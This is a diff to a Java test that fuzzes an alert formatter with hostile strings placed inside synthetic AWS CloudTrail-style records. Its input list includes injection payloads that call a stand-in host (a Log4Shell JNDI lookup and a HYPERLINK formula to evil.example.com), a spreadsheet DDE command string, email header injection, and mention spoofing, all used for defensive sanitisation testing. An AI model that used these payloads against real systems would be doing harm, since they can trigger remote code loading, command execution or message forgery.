@@ -43,7 +43,7 @@ class HostileAlertsTest {
           "`*bold* _it_ ~no~`",
           "<!here> <@U012AB> <!channel> @here @channel",
           "<at>everyone</at>",
-          "\r\nAccount:  999999999999",
+          "\r\nAccount:  123456789012",
           "\nOutcome:  success\n\nRules:    none\n",
           "\u2028Who:      nobody\u2029Region:   nowhere",
           "\u0085Event ID: 0",
@@ -52,7 +52,7 @@ class HostileAlertsTest {
           "=HYPERLINK(\"https://evil.example.com\")",
           "+1+cmd|'/c calc'!A0",
           "\nSubject: forged\nBcc: a@evil.com",
-          "a" + " ".repeat(90) + "Account:  999999999999",
+          "a" + " ".repeat(90) + "Account:  123456789012",
           "\u00a0".repeat(80) + "Account:",
           "\ud83d\ude00 \ud800 \udc00 x",
           "x".repeat(5000),
@@ -61,19 +61,6 @@ class HostileAlertsTest {
           "日本 עברית ёлка.рф",
           "%s %n {} ${jndi:ldap://evil.example.com}",
           "");
-
-  private static final String RECORD =
-      """
-      {"eventVersion":"1.11","eventSource":%s,"eventName":%s,"eventTime":"2026-03-%02dT%02d:%02d:00Z",\
-      "eventType":"AwsApiCall","eventID":"e0000000-0000-4000-9000-%012d","awsRegion":"us-east-1",\
-      "recipientAccountId":"111122223333","sourceIPAddress":%s,"userAgent":%s,%s\
-      "userIdentity":{"type":"AssumedRole","principalId":"AROAEXAMPLE:x",\
-      "arn":%s,"accountId":"444455556666","accessKeyId":"ASIAEXAMPLE000000001",\
-      "sessionContext":{"sessionIssuer":{"type":"Role","arn":"arn:aws:iam::444455556666:role/Admin",\
-      "userName":%s},"sourceIdentity":%s,"attributes":{"mfaAuthenticated":"false"}}},\
-      "requestParameters":{"roleName":%s,"roleArn":%s,"roleSessionName":%s,"description":%s,\
-      "policyDocument":%s,"tags":[{"key":%s,"value":%s}],%s:%s},"responseElements":%s}\
-      """;
 
   private static final List<String> EVENTS =
       List.of(
@@ -112,38 +99,49 @@ class HostileAlertsTest {
   private String record(int number) {
     String event = pick(EVENTS);
     String source = event.split(" ")[0];
-    return RECORD.formatted(
-        text(source),
-        text(event.split(" ")[1]),
-        1 + number / 100,
-        number % 20,
-        number % 60,
-        number,
-        text(hostile()),
-        text(hostile()),
-        random.nextBoolean()
-            ? ""
-            : "\"errorCode\":\"AccessDenied\",\"errorMessage\":"
-                + text(
-                    "User: arn:aws:sts::444455556666:assumed-role/Admin/x is not authorized to"
-                        + " perform: sts:AssumeRole on resource:"
-                        + " arn:aws:iam::111122223333:role/ChimeAdmin "
-                        + hostile())
-                + ",",
-        text("arn:aws:sts::444455556666:assumed-role/Admin/" + hostile()),
-        text(hostile()),
-        text(hostile()),
-        text("ChimeAdmin" + hostile()),
-        text("arn:aws:iam::111122223333:role/Chime" + hostile()),
-        text(hostile()),
-        text(hostile()),
-        text(document()),
-        text(hostile() + "k"),
-        text(hostile()),
-        text("extra" + hostile()),
-        text(hostile()),
-        "{\"credentials\":{\"accessKeyId\":\"ASIAEXAMPLE000000002\",\"sessionToken\":%s},%s:%s}"
-            .formatted(text(secret()), text("x" + trick()), text(secret())));
+    return """
+    {"eventVersion":"1.11","eventSource":%s,"eventName":%s,"eventTime":"2026-03-%02dT%02d:%02d:00Z",\
+    "eventType":"AwsApiCall","eventID":"e0000000-0000-4000-9000-%012d","awsRegion":"us-east-1",\
+    "recipientAccountId":"111122223333","sourceIPAddress":%s,"userAgent":%s,%s\
+    "userIdentity":{"type":"AssumedRole","principalId":"AROAEXAMPLE:x",\
+    "arn":%s,"accountId":"444455556666","accessKeyId":"ASIAEXAMPLE000000001",\
+    "sessionContext":{"sessionIssuer":{"type":"Role","arn":"arn:aws:iam::444455556666:role/Admin",\
+    "userName":%s},"sourceIdentity":%s,"attributes":{"mfaAuthenticated":"false"}}},\
+    "requestParameters":{"roleName":%s,"roleArn":%s,"roleSessionName":%s,"description":%s,\
+    "policyDocument":%s,"tags":[{"key":%s,"value":%s}],%s:%s},"responseElements":%s}\
+    """
+        .formatted(
+            text(source),
+            text(event.split(" ")[1]),
+            1 + number / 100,
+            number % 20,
+            number % 60,
+            number,
+            text(hostile()),
+            text(hostile()),
+            random.nextBoolean()
+                ? ""
+                : "\"errorCode\":\"AccessDenied\",\"errorMessage\":"
+                    + text(
+                        "User: arn:aws:sts::444455556666:assumed-role/Admin/x is not authorized to"
+                            + " perform: sts:AssumeRole on resource:"
+                            + " arn:aws:iam::111122223333:role/ChimeAdmin "
+                            + hostile())
+                    + ",",
+            text("arn:aws:sts::444455556666:assumed-role/Admin/" + hostile()),
+            text(hostile()),
+            text(hostile()),
+            text("ChimeAdmin" + hostile()),
+            text("arn:aws:iam::111122223333:role/Chime" + hostile()),
+            text(hostile()),
+            text(hostile()),
+            text(document()),
+            text(hostile() + "k"),
+            text(hostile()),
+            text("extra" + hostile()),
+            text(hostile()),
+            "{\"credentials\":{\"accessKeyId\":\"ASIAEXAMPLE000000002\",\"sessionToken\":%s},%s:%s}"
+                .formatted(text(secret()), text("x" + trick()), text(secret())));
   }
 
   private String document() {
